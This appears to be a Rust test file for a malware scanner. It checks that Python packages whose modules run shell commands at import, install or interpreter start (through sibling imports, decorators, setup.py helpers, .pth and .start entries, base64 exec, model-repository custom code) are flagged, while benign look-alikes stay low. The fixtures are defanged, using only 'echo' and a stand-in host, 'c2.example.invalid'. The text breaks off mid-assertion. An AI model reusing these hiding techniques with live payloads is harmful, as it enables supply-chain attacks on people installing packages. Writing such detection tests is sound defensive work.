//! A package's modules joined (`check/python_modules.rs`): a payload in a function of one
//! module that another module calls at load (`from ._boot import init; init()`, a thread
//! target, a decorator) is graded as code run at load, in a plain folder, a wheel, an sdist, an
//! installed environment and a Hugging Face repository with custom code. Fixtures are written
//! here, defanged (commands only `echo`, hosts under `example.invalid`), and scanned; nothing
//! is executed. Benign look-alikes stay below medium.

use std::io::Write;
use std::path::Path;

use airlock::analyse::BudgetLimits;
use airlock::finding::Severity;
use airlock::scan::{scan, FileReport, ScanOptions, ScanReport};
use base64::Engine;
use sha2::Digest;

fn write(root: &Path, name: &str, data: &[u8]) {
    let p = root.join(name);
    std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
    std::fs::write(&p, data).expect("write");
}

fn scan_dir(root: &Path) -> ScanReport {
    let opts = ScanOptions {
        paths: vec![root.to_path_buf()],
        exclude: Vec::new(),
        jobs: 1,
        limits: BudgetLimits::default(),
        yara: None,
    };
    scan(&opts, &|_, _| {}).expect("scan")
}

/// Write `files` under a fresh folder and scan it.
fn scan_tree(files: &[(&str, &str)]) -> (tempfile::TempDir, ScanReport) {
    let dir = tempfile::tempdir().expect("tempdir");
    for (name, src) in files {
        write(dir.path(), name, src.as_bytes());
    }
    let r = scan_dir(dir.path());
    (dir, r)
}

/// The worst severity of `rule` on the file or member whose name ends with `file`.
fn worst(r: &ScanReport, rule: &str, file: &str) -> Option<Severity> {
    r.files
        .iter()
        .flat_map(|f| f.findings.iter())
        .filter(|f| f.rule.id == rule)
        .filter(|f| {
            let name = match f.location.members.last() {
                Some(m) => m.clone(),
                None => f.location.path.to_string_lossy().replace('\\', "/"),
            };
            name.ends_with(file)
        })
        .map(|f| f.severity)
        .max()
}

fn summary(r: &ScanReport) -> Vec<String> {
    r.files
        .iter()
        .flat_map(|f: &FileReport| f.findings.iter())
        .map(|f| {
            format!(
                "{} {} {:?} {} | {}",
                f.rule.id, f.severity, f.location.members, f.message, f.evidence
            )
        })
        .collect()
}

fn nothing_at_medium(r: &ScanReport) -> bool {
    r.files
        .iter()
        .flat_map(|f| f.findings.iter())
        .all(|f| f.severity < Severity::Medium)
}

/// (files of the tree, rule, file the finding is on, its worst severity).
type Case<'a> = (&'a [(&'a str, &'a str)], &'a str, &'a str, Option<Severity>);

const BOOT: &str = "import os\n\ndef init():\n    os.system('echo airlock-test')\n";

/// `__init__.py` calls a function of a sibling module at load: the shell command in it runs at
/// import. Every spelling of the call and the import.
#[test]
fn a_function_of_another_module_called_at_load_runs_at_import() {
    use Severity::*;
    let cases: &[Case] = &[
        // The tester's reproducer (A1): `from ._boot import init; init()`.
        (
            &[
                ("demo/__init__.py", "from ._boot import init\ninit()\n"),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        // On one line.
        (
            &[
                ("demo/__init__.py", "from ._boot import init; init()\n"),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        // The module imported, its function called through it, an alias.
        (
            &[
                ("demo/__init__.py", "from . import _boot as b\nb.init()\n"),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        // The module imported whole, its function called through it (the brief's second
        // spelling), and absolute with an alias (its third).
        (
            &[
                ("demo/__init__.py", "from . import _boot; _boot.init()\n"),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        (
            &[
                ("demo/__init__.py", "import demo._boot as b\nb.init()\n"),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        // `import demo._boot` binds `demo`: called as `demo._boot.init()`.
        (
            &[
                ("demo/__init__.py", "import demo._boot\ndemo._boot.init()\n"),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        // Through a helper module that is not parsed (no word of its own): the helper's
        // function that calls the payload is found by placing the imported name.
        (
            &[
                ("demo/__init__.py", "from .core import setup\nsetup()\n"),
                (
                    "demo/core.py",
                    "from ._boot import init\n\ndef setup():\n    init()\n\ndef other():\n    return 1\n",
                ),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        // Absolute, through the package's own name.
        (
            &[
                ("demo/__init__.py", "from demo._boot import init\ninit()\n"),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        // A thread target (A1, a02).
        (
            &[
                (
                    "demo/__init__.py",
                    "import threading\nfrom . import _t\nthreading.Thread(target=_t.run, daemon=True).start()\n",
                ),
                (
                    "demo/_t.py",
                    "import subprocess\n\ndef run():\n    subprocess.Popen('echo airlock-test', shell=True)\n",
                ),
            ],
            "python-shell-command",
            "demo/_t.py",
            Some(High),
        ),
        // A decorator from a sibling module (A1, c14).
        (
            &[
                (
                    "demo/__init__.py",
                    "from .deco import register\n\n@register\ndef hello():\n    return 1\n",
                ),
                (
                    "demo/deco.py",
                    "import os\ndef register(f):\n    os.system('echo airlock-test')\n    return f\n",
                ),
            ],
            "python-shell-command",
            "demo/deco.py",
            Some(High),
        ),
        // Through a function of the importing module that its top level calls.
        (
            &[
                (
                    "demo/__init__.py",
                    "from ._boot import init\n\ndef setup():\n    init()\n\nsetup()\n",
                ),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        // Through a helper of the called module, then a third module.
        (
            &[
                ("demo/__init__.py", "from .a import start\nstart()\n"),
                (
                    "demo/a.py",
                    "from .sub.b import go\n\ndef helper():\n    go()\n\ndef start():\n    helper()\n",
                ),
                ("demo/sub/__init__.py", ""),
                (
                    "demo/sub/b.py",
                    "import os\n\ndef go():\n    os.system('echo airlock-test')\n",
                ),
            ],
            "python-shell-command",
            "demo/sub/b.py",
            Some(High),
        ),
        // `..` from a subpackage.
        (
            &[
                ("demo/__init__.py", ""),
                ("demo/sub/__init__.py", "from .._boot import init\ninit()\n"),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        // Decoded data exec'd in the called function: critical, as at module level.
        (
            &[
                ("demo/__init__.py", "from ._boot import init\ninit()\n"),
                (
                    "demo/_boot.py",
                    "import base64\n\ndef init():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n",
                ),
            ],
            "python-exec-decoded",
            "demo/_boot.py",
            Some(Critical),
        ),
        // A module of the package imported by name, relative to the package
        // (`import_module('.core', __name__)`, `package=__package__`), or its function taken
        // with `getattr` (tester t12 x05).
        (
            &[
                (
                    "demo/__init__.py",
                    "import importlib
getattr(importlib.import_module('._boot', __name__), 'init')()
",
                ),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        (
            &[
                (
                    "demo/__init__.py",
                    "import importlib
m = importlib.import_module('._boot', package=__package__)
m.init()
",
                ),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        (
            &[
                (
                    "demo/__init__.py",
                    "import importlib
getattr(importlib.import_module('demo._boot'), 'init')()
",
                ),
                ("demo/_boot.py", BOOT),
            ],
            "python-shell-command",
            "demo/_boot.py",
            Some(High),
        ),
        // A network call in a function the importer calls itself: medium, as within one file.
        (
            &[
                ("demo/__init__.py", "from ._net import ping\nping()\n"),
                (
                    "demo/_net.py",
                    "import urllib.request\n\ndef ping():\n    urllib.request.urlopen('https://c2.example.invalid/')\n",
                ),
            ],
            "python-network-at-load",
            "demo/_net.py",
            Some(Medium),
        ),
    ];
    let mut failures = Vec::new();
    for (files, rule, file, want) in cases {
        let (_d, r) = scan_tree(files);
        let got = worst(&r, rule, file);
        if got != *want {
            failures.push(format!(
                "{files:?}: want {rule} {want:?} on {file}, got {got:?}\n{:#?}",
                summary(&r)
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// The finding names the module whose load runs the code.
#[test]
fn the_finding_names_the_loading_module() {
    let (_d, r) = scan_tree(&[
        ("demo/__init__.py", "from ._boot import init\ninit()\n"),
        ("demo/_boot.py", BOOT),
    ]);
    let f = r
        .files
        .iter()
        .flat_map(|f| f.findings.iter())
        .find(|f| f.rule.id == "python-shell-command" && f.severity == Severity::High)
        .expect("a high finding");
    assert!(
        f.message.contains("init() is called when") && f.message.contains("demo/__init__.py"),
        "{}",
        f.message
    );
}

/// What a package's modules import without calling, or call only in functions nobody calls,
/// stays latent; so does what `__main__.py`, a script or a test module calls.
#[test]
fn imports_and_calls_that_do_not_run_at_load_stay_low() {
    let run_cmd =
        "import subprocess\n\ndef run_cmd(c):\n    return subprocess.run(c, shell=True)\n";
    let cases: &[&[(&str, &str)]] = &[
        // Imported, re-exported, never called.
        &[
            ("demo/__init__.py", "from .utils import run_cmd\n__all__ = ['run_cmd']\n"),
            ("demo/utils.py", run_cmd),
        ],
        // Called only inside a function nobody calls at load.
        &[
            (
                "demo/__init__.py",
                "from .utils import run_cmd\n\ndef build():\n    run_cmd('echo x')\n",
            ),
            ("demo/utils.py", run_cmd),
        ],
        // Kept in a table, not called.
        &[
            (
                "demo/__init__.py",
                "from .utils import run_cmd\nHANDLERS = {'run': run_cmd}\n",
            ),
            ("demo/utils.py", run_cmd),
        ],
        // A lazy loader: the module imported by name, another of its functions called.
        &[
            (
                "demo/__init__.py",
                "import importlib\n_u = importlib.import_module('.utils', __name__)\nVERSION = getattr(_u, '__version__', '0')\n",
            ),
            ("demo/utils.py", run_cmd),
        ],
        // Another function of the same module is called.
        &[
            (
                "demo/__init__.py",
                "from .utils import version\n__version__ = version()\n",
            ),
            (
                "demo/utils.py",
                "import subprocess\n\ndef version():\n    return '1.0'\n\ndef run_cmd(c):\n    return subprocess.run(c, shell=True)\n",
            ),
        ],
        // `python -m demo` runs the command-line entry on purpose.
        &[
            ("demo/__init__.py", ""),
            ("demo/__main__.py", "from .cli import main\nmain()\n"),
            (
                "demo/cli.py",
                "import subprocess\n\ndef main():\n    subprocess.run('echo x', shell=True)\n",
            ),
        ],
        // Under the main guard.
        &[
            ("demo/__init__.py", ""),
            (
                "demo/tool.py",
                "from .utils import run_cmd\nif __name__ == '__main__':\n    run_cmd('echo x')\n",
            ),
            ("demo/utils.py", run_cmd),
        ],
        // A test module's top level runs under a test runner.
        &[
            ("demo/__init__.py", ""),
            ("demo/tests/__init__.py", ""),
            (
                "demo/tests/test_x.py",
                "from ..utils import run_cmd\nrun_cmd('echo x')\n",
            ),
            ("demo/utils.py", run_cmd),
        ],
        // A command-line script no module imports.
        &[
            ("demo/__init__.py", "from .utils import version\n"),
            (
                "demo/cli.py",
                "import argparse, os\np = argparse.ArgumentParser()\np.parse_args()\nos.system('echo x')\n",
            ),
            ("demo/utils.py", "def version():\n    return '1'\n"),
        ],
        // A network call reached through another function, not called directly: latent, as
        // within one file.
        &[
            ("demo/__init__.py", "from ._net import setup\nsetup()\n"),
            (
                "demo/_net.py",
                "import urllib.request\n\ndef fetch(u):\n    return urllib.request.urlopen(u)\n\ndef setup():\n    return fetch\n",
            ),
        ],
        // A stdlib module named like a sibling: `import os` is not `demo/os.py`.
        &[
            ("demo/__init__.py", "import os\nos.getcwd()\n"),
            (
                "demo/os.py",
                "import subprocess\n\ndef getcwd():\n    subprocess.run('echo x', shell=True)\n",
            ),
        ],
    ];
    let mut failures = Vec::new();
    for files in cases {
        let (_d, r) = scan_tree(files);
        if !nothing_at_medium(&r) {
            failures.push(format!("{files:?}\n{:#?}", summary(&r)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// A module with an argument parser at its top level is a script, but a package that imports
/// it runs its top level at import.
#[test]
fn a_script_imported_by_its_package_runs_at_import() {
    let cli =
        "import argparse, os\np = argparse.ArgumentParser()\nos.system('echo airlock-test')\n";
    for init in [
        "from . import cli\n",
        "from .cli import p\n",
        "import demo.cli\n",
    ] {
        let (_d, r) = scan_tree(&[("demo/__init__.py", init), ("demo/cli.py", cli)]);
        assert_eq!(
            worst(&r, "python-shell-command", "demo/cli.py"),
            Some(Severity::High),
            "{init}\n{:#?}",
            summary(&r)
        );
    }
    // Not imported: latent.
    let (_d, r) = scan_tree(&[("demo/__init__.py", ""), ("demo/cli.py", cli)]);
    assert_eq!(
        worst(&r, "python-shell-command", "demo/cli.py"),
        Some(Severity::Low)
    );
}

/// The walk from one module stops after `MAX_DEPTH` modules, and says so once per scan
/// however many packages it stopped in (a bound reported per module flooded the corpus with
/// 3,846 info findings in session 10).
#[test]
fn a_long_chain_of_modules_is_bounded_and_reported_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    let n = airlock::formats::python::join::MAX_DEPTH + 3;
    for pkg in ["demo", "other"] {
        write(
            dir.path(),
            &format!("{pkg}/__init__.py"),
            b"from .m0 import f\nf()\n",
        );
        for i in 0..n {
            let src = if i + 1 == n {
                "import os\n\ndef f():\n    os.system('echo airlock-test')\n".to_string()
            } else {
                format!("from .m{} import f as g\n\ndef f():\n    g()\n", i + 1)
            };
            write(dir.path(), &format!("{pkg}/m{i}.py"), src.as_bytes());
        }
    }
    let r = scan_dir(dir.path());
    assert_eq!(
        worst(&r, "python-shell-command", &format!("demo/m{}.py", n - 1)),
        Some(Severity::Low)
    );
    let limits: Vec<_> = r
        .files
        .iter()
        .flat_map(|f| f.findings.iter())
        .filter(|f| f.rule.id == "resource-limit")
        .collect();
    assert_eq!(limits.len(), 1, "{:#?}", summary(&r));
    assert_eq!(limits[0].severity, Severity::Info);
    assert!(
        limits[0].location.path.ends_with("demo/__init__.py"),
        "{:#?}",
        summary(&r)
    );
    // A chain within the bound is followed to its end.
    let dir = tempfile::tempdir().expect("tempdir");
    let n = airlock::formats::python::join::MAX_DEPTH - 1;
    write(dir.path(), "demo/__init__.py", b"from .m0 import f\nf()\n");
    for i in 0..n {
        let src = if i + 1 == n {
            "import os\n\ndef f():\n    os.system('echo airlock-test')\n".to_string()
        } else {
            format!("from .m{} import f as g\n\ndef f():\n    g()\n", i + 1)
        };
        write(dir.path(), &format!("demo/m{i}.py"), src.as_bytes());
    }
    let r = scan_dir(dir.path());
    assert_eq!(
        worst(&r, "python-shell-command", &format!("demo/m{}.py", n - 1)),
        Some(Severity::High),
        "{:#?}",
        summary(&r)
    );
}

/// A hostile package: 2,000 modules importing each other in a cycle, each calling the next at
/// load, one of them with a payload. The join ends within its bounds, grades the payload at
/// load where a load reaches it within `MAX_DEPTH` modules, and says it stopped once.
#[test]
fn a_cycle_of_two_thousand_modules_is_bounded_and_reported_once() {
    const N: usize = 2000;
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "demo/__init__.py", b"from .m0 import f\nf()\n");
    for i in 0..N {
        let next = (i + 1) % N;
        let payload = if i == N - 1 {
            "    os.system('echo airlock-test')\n"
        } else {
            ""
        };
        let src =
            format!("import os\nfrom .m{next} import f as g\ng()\n\ndef f():\n    g()\n{payload}");
        write(dir.path(), &format!("demo/m{i}.py"), src.as_bytes());
    }
    let started = std::time::Instant::now();
    let r = scan_dir(dir.path());
    let took = started.elapsed();
    assert!(took < std::time::Duration::from_secs(60), "{took:?}");
    assert_eq!(
        worst(&r, "python-shell-command", &format!("demo/m{}.py", N - 1)),
        Some(Severity::High),
        "{:#?}",
        summary(&r)
    );
    let limits: Vec<_> = r
        .files
        .iter()
        .flat_map(|f| f.findings.iter())
        .filter(|f| f.rule.id == "resource-limit")
        .collect();
    assert_eq!(limits.len(), 1, "{:#?}", summary(&r));
    assert_eq!(limits[0].severity, Severity::Info);
}

/// Benign look-alikes: the package's `__init__.py` calls a sibling's setup function at load
/// whose body only reads configuration, and a sibling's function that runs `git rev-parse`
/// (or a shell command) is called only lazily, from functions nobody calls at load.
#[test]
fn siblings_called_at_load_without_a_payload_stay_low() {
    let log = "import configparser\nimport logging\n\ndef setup_logging():\n    cfg = configparser.ConfigParser()\n    cfg.read('logging.ini')\n    logging.basicConfig(level=cfg.get('log', 'level', fallback='INFO'))\n";
    let version = "import subprocess\n\ndef git_revision():\n    out = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True)\n    return out.stdout.decode().strip()\n\ndef build(cmd):\n    return subprocess.run(cmd, shell=True)\n";
    let pad = format!("\n{}\n", "# padding\n".repeat(1200));
    let padded_version = format!("{version}{pad}");
    let cases: &[&[(&str, &str)]] = &[
        &[
            (
                "demo/__init__.py",
                "from ._log import setup_logging\nfrom ._version import git_revision\n\nsetup_logging()\n\ndef version():\n    return git_revision()\n",
            ),
            ("demo/_log.py", log),
            ("demo/_version.py", version),
        ],
        // The same with the helper too large to be parsed by the prefilter, imported whole.
        &[
            (
                "demo/__init__.py",
                "from . import _log, _version\n\n_log.setup_logging()\n\ndef version():\n    return _version.git_revision()\n\ndef rebuild():\n    _version.build('make')\n",
            ),
            ("demo/_log.py", log),
            ("demo/_version.py", &padded_version),
        ],
    ];
    for files in cases {
        let (_d, r) = scan_tree(files);
        assert!(nothing_at_medium(&r), "{files:?}\n{:#?}", summary(&r));
        let dir = tempfile::tempdir().expect("tempdir");
        write(dir.path(), "demo-1.0-py3-none-any.whl", &wheel(files));
        let r = scan_dir(dir.path());
        assert!(nothing_at_medium(&r), "wheel {files:?}\n{:#?}", summary(&r));
    }
}

fn record_line(name: &str, data: &[u8]) -> String {
    let h = sha2::Sha256::digest(data);
    format!(
        "{name},sha256={},{}\n",
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(h),
        data.len()
    )
}

/// A wheel of `files` (with METADATA, WHEEL and RECORD).
fn wheel(files: &[(&str, &str)]) -> Vec<u8> {
    let mut all: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(n, s)| (n.to_string(), s.as_bytes().to_vec()))
        .collect();
    all.push((
        "demo-1.0.dist-info/METADATA".into(),
        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n".to_vec(),
    ));
    all.push((
        "demo-1.0.dist-info/WHEEL".into(),
        b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
    ));
    let mut record = String::new();
    for (n, d) in &all {
        record.push_str(&record_line(n, d));
    }
    record.push_str("demo-1.0.dist-info/RECORD,,\n");
    all.push(("demo-1.0.dist-info/RECORD".into(), record.into_bytes()));
    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (n, d) in &all {
        z.start_file(n.as_str(), opts).expect("start");
        z.write_all(d).expect("write");
    }
    z.finish().expect("finish").into_inner()
}

/// An sdist (`.tar.gz`) of `files` under `demo-1.0/`.
fn sdist(files: &[(&str, &str)]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut t = tar::Builder::new(gz);
    let mut all: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(n, s)| (format!("demo-1.0/{n}"), s.as_bytes().to_vec()))
        .collect();
    all.push((
        "demo-1.0/PKG-INFO".into(),
        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n".to_vec(),
    ));
    for (n, d) in &all {
        let mut h = tar::Header::new_gnu();
        h.set_size(d.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        t.append_data(&mut h, n, d.as_slice()).expect("append");
    }
    t.into_inner().expect("tar").finish().expect("gz")
}

/// The same package joined inside a wheel and an sdist, and installed in site-packages.
#[test]
fn packages_are_joined_in_wheels_sdists_and_environments() {
    let malicious: &[(&str, &str)] = &[
        ("demo/__init__.py", "from ._boot import init\ninit()\n"),
        ("demo/_boot.py", BOOT),
    ];
    let benign: &[(&str, &str)] = &[
        ("demo/__init__.py", "from ._boot import init\n"),
        ("demo/_boot.py", BOOT),
    ];
    for (files, want) in [
        (malicious, Some(Severity::High)),
        (benign, Some(Severity::Low)),
    ] {
        let dir = tempfile::tempdir().expect("tempdir");
        write(dir.path(), "demo-1.0-py3-none-any.whl", &wheel(files));
        let r = scan_dir(dir.path());
        assert_eq!(
            worst(&r, "python-shell-command", "demo/_boot.py"),
            want,
            "wheel\n{:#?}",
            summary(&r)
        );
        let dir = tempfile::tempdir().expect("tempdir");
        write(dir.path(), "demo-1.0.tar.gz", &sdist(files));
        let r = scan_dir(dir.path());
        assert_eq!(
            worst(&r, "python-shell-command", "demo/_boot.py"),
            want,
            "sdist\n{:#?}",
            summary(&r)
        );
        let dir = tempfile::tempdir().expect("tempdir");
        for (n, s) in files {
            write(
                dir.path(),
                &format!("lib/python3.12/site-packages/{n}"),
                s.as_bytes(),
            );
        }
        let r = scan_dir(dir.path());
        assert_eq!(
            worst(&r, "python-shell-command", "demo/_boot.py"),
            want,
            "site-packages\n{:#?}",
            summary(&r)
        );
    }
    // Modules too large for the prefilter to parse without need (a payload padded past the
    // small-source bound, a padded `__init__.py`): read again (a wheel's members inflated
    // again, an sdist's stream decoded again) and parsed by the join when a load calls in.
    let pad = format!("\n{}\n", "# padding\n".repeat(1200));
    let init = format!("from ._boot import init{pad}init()\n");
    let boot = format!("import os\n{pad}def init():\n    os.system('echo airlock-test')\n");
    let padded: &[(&str, &str)] = &[("demo/__init__.py", &init), ("demo/_boot.py", &boot)];
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "demo-1.0-py3-none-any.whl", &wheel(padded));
    write(dir.path(), "demo-1.0.tar.gz", &sdist(padded));
    for (n, s) in padded {
        write(dir.path(), &format!("tree/{n}"), s.as_bytes());
    }
    let r = scan_dir(dir.path());
    for file in [
        "whl!demo/_boot.py",
        "!demo-1.0/demo/_boot.py",
        "tree/demo/_boot.py",
    ] {
        let got = r
            .files
            .iter()
            .flat_map(|f| f.findings.iter())
            .filter(|f| f.rule.id == "python-shell-command")
            .filter(|f| f.location.artifact_name().ends_with(file))
            .map(|f| f.severity)
            .max();
        assert_eq!(got, Some(Severity::High), "{file}\n{:#?}", summary(&r));
    }
    // Two wheels side by side are not one package.
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "a-1.0-py3-none-any.whl",
        &wheel(&[("demo/__init__.py", "from ._boot import init\ninit()\n")]),
    );
    write(
        dir.path(),
        "b-1.0-py3-none-any.whl",
        &wheel(&[("demo/_boot.py", BOOT)]),
    );
    let r = scan_dir(dir.path());
    assert_eq!(
        worst(&r, "python-shell-command", "demo/_boot.py"),
        Some(Severity::Low)
    );
}

/// A Hugging Face repository's custom code (`auto_map`) importing a helper module that runs a
/// command when the model module is loaded (A1, r01).
#[test]
fn custom_code_of_a_model_repository_is_joined() {
    let config = r#"{"architectures": ["XModel"], "auto_map": {"AutoModel": "modeling_x.XModel"}, "model_type": "x"}"#;
    let helpers = "import os\ndef setup_env():\n    os.system('echo airlock-test')\n";
    let (_d, r) = scan_tree(&[
        ("config.json", config),
        ("helpers.py", helpers),
        (
            "modeling_x.py",
            "from transformers import PreTrainedModel\nfrom .helpers import setup_env\nsetup_env()\nclass XModel(PreTrainedModel):\n    pass\n",
        ),
    ]);
    assert_eq!(
        worst(&r, "python-shell-command", "helpers.py"),
        Some(Severity::High),
        "{:#?}",
        summary(&r)
    );
    // The helper imported but called only in the model's methods.
    let (_d, r) = scan_tree(&[
        ("config.json", config),
        ("helpers.py", helpers),
        (
            "modeling_x.py",
            "from transformers import PreTrainedModel\nfrom .helpers import setup_env\nclass XModel(PreTrainedModel):\n    def prepare(self):\n        setup_env()\n",
        ),
    ]);
    assert_eq!(
        worst(&r, "python-shell-command", "helpers.py"),
        Some(Severity::Low),
        "{:#?}",
        summary(&r)
    );
}

/// `setup.py` runs with its own folder on `sys.path`: a helper module beside it that it calls
/// at install runs at install (tester t12 x02, x11), in a folder and in an sdist. A helper that
/// only reads a file, or whose command is not called at install, stays below medium.
#[test]
fn setup_py_calling_a_module_beside_it_runs_at_install() {
    let setup = "from setuptools import setup\nfrom build_helpers import prepare\nprepare()\nsetup(name='demo', version='0.1')\n";
    let helper = "import os\n\ndef prepare():\n    os.system('echo airlock-test')\n";
    let files: &[(&str, &str)] = &[("setup.py", setup), ("build_helpers.py", helper)];
    let (_d, r) = scan_tree(files);
    assert_eq!(
        worst(&r, "python-shell-command", "build_helpers.py"),
        Some(Severity::High),
        "{:#?}",
        summary(&r)
    );
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "demo-1.0.tar.gz", &sdist(files));
    let r = scan_dir(dir.path());
    assert_eq!(
        worst(&r, "python-shell-command", "build_helpers.py"),
        Some(Severity::High),
        "sdist\n{:#?}",
        summary(&r)
    );
    let benign: &[&[(&str, &str)]] = &[
        &[
            (
                "setup.py",
                "from setuptools import setup\nfrom version_helper import read_version\nsetup(name='demo', version=read_version())\n",
            ),
            (
                "version_helper.py",
                "import subprocess\n\ndef read_version():\n    with open('VERSION') as f:\n        return f.read().strip()\n\ndef tag():\n    subprocess.run('git tag v1', shell=True)\n",
            ),
        ],
        // A module of the same name in another folder is not beside `setup.py`.
        &[
            ("setup.py", setup),
            ("tools/build_helpers.py", helper),
        ],
    ];
    for files in benign {
        let (_d, r) = scan_tree(files);
        assert!(nothing_at_medium(&r), "{files:?}\n{:#?}", summary(&r));
        let dir = tempfile::tempdir().expect("tempdir");
        write(dir.path(), "demo-1.0.tar.gz", &sdist(files));
        let r = scan_dir(dir.path());
        assert!(nothing_at_medium(&r), "sdist {files:?}\n{:#?}", summary(&r));
    }
}

/// A PEP 829 `.start` file in a site folder names `module:function`: the function runs at
/// every interpreter start (tester t12 p10). An entry naming a function without a payload, and
/// a payload function no entry names, stay below medium.
#[test]
fn a_start_file_entry_runs_its_function_at_startup() {
    let site = "lib/python3.13/site-packages";
    let boot = "import os\n\ndef run():\n    os.system('echo airlock-test')\n\ndef quiet():\n    return 1\n";
    let (_d, r) = scan_tree(&[
        (&format!("{site}/demo.start"), "demo._boot:run\n"),
        (&format!("{site}/demo/__init__.py"), ""),
        (&format!("{site}/demo/_boot.py"), boot),
    ]);
    assert_eq!(
        worst(&r, "python-shell-command", "demo/_boot.py"),
        Some(Severity::High),
        "{:#?}",
        summary(&r)
    );
    let (_d, r) = scan_tree(&[
        (&format!("{site}/demo.start"), "demo._boot:quiet\n"),
        (&format!("{site}/demo/__init__.py"), ""),
        (&format!("{site}/demo/_boot.py"), boot),
    ]);
    assert_eq!(
        worst(&r, "python-shell-command", "demo/_boot.py"),
        Some(Severity::Low),
        "{:#?}",
        summary(&r)
    );
}

/// A module with more functions than the join keeps makes the join incomplete only when a
/// walk goes through it: said once then, not for every large module of a package.
#[test]
fn a_large_module_is_reported_only_when_a_walk_goes_through_it() {
    let n = airlock::formats::python::links_max_functions() + 50;
    let mut big = String::from("import os\n");
    for i in 0..n {
        big.push_str(&format!(
            "def f{i}():\n    os.system('echo airlock-test')\n"
        ));
    }
    let limits = |r: &ScanReport| {
        r.files
            .iter()
            .flat_map(|f| f.findings.iter())
            // The bound of the join, not the cap on findings listed per rule.
            .filter(|f| f.rule.id == "resource-limit" && !f.message.contains("findings of rule"))
            .count()
    };
    let (_d, r) = scan_tree(&[("demo/__init__.py", &big), ("demo/_boot.py", BOOT)]);
    assert_eq!(limits(&r), 0, "{:#?}", summary(&r));
    let loading = format!("from ._boot import init\ninit()\n{big}");
    let (_d, r) = scan_tree(&[("demo/__init__.py", &loading), ("demo/_boot.py", BOOT)]);
    assert_eq!(limits(&r), 1, "{:#?}", summary(&r));
    assert_eq!(
        worst(&r, "python-shell-command", "demo/_boot.py"),
        Some(Severity::High)
    );
}

/// A Sphinx `conf.py` runs under sphinx-build, on purpose: its top level counts only when
/// something runs it at load. Code that runs it by name is such a load: a constant
/// `importlib.import_module`, a star import, a `.pth` import line (in a wheel's
/// `.data/purelib` too), and a `setup.py` that execs, `run_path`s or imports it after putting
/// its folder on `sys.path`.
#[test]
fn code_run_by_name_is_joined() {
    let conf = "import os\nos.system('echo airlock')\n";
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);
    let cases: &[Case] = &[
        (
            "import_module",
            &[
                ("cf/__init__.py", "import importlib\nimportlib.import_module('cf.doc.conf')\n"),
                ("cf/doc/conf.py", conf),
            ],
            "cf/doc/conf.py",
        ),
        (
            "star",
            &[
                ("cf/__init__.py", "from .docs.conf import *\n"),
                ("cf/docs/conf.py", conf),
            ],
            "cf/docs/conf.py",
        ),
        (
            "exec open",
            &[
                ("x-1.0/setup.py", "from setuptools import setup\nexec(open('docs/conf.py').read())\nsetup(name='x')\n"),
                ("x-1.0/docs/conf.py", conf),
            ],
            "x-1.0/docs/conf.py",
        ),
        (
            "run_path",
            &[
                ("x-1.0/setup.py", "import runpy\nrunpy.run_path('docs/conf.py')\n"),
                ("x-1.0/docs/conf.py", conf),
            ],
            "x-1.0/docs/conf.py",
        ),
        (
            "sys.path",
            &[
                ("x-1.0/setup.py", "import sys\nsys.path.insert(0, 'docs')\nimport conf\n"),
                ("x-1.0/docs/conf.py", conf),
            ],
            "x-1.0/docs/conf.py",
        ),
    ];
    for (what, files, target) in cases {
        let (_d, r) = scan_tree(files);
        assert_eq!(
            worst(&r, "python-shell-command", target),
            Some(Severity::High),
            "{what}: {:?}",
            summary(&r)
        );
    }
    // A `.pth` import line in a wheel's `.data/purelib`: installed beside the package.
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        dir.path().join("cf-1.0-py3-none-any.whl"),
        wheel(&[
            ("cf-1.0.data/purelib/zz_cf.pth", "import cf.sphinx.conf\n"),
            ("cf/__init__.py", ""),
            ("cf/sphinx/conf.py", conf),
        ]),
    )
    .expect("write");
    let r = scan_dir(dir.path());
    assert_eq!(
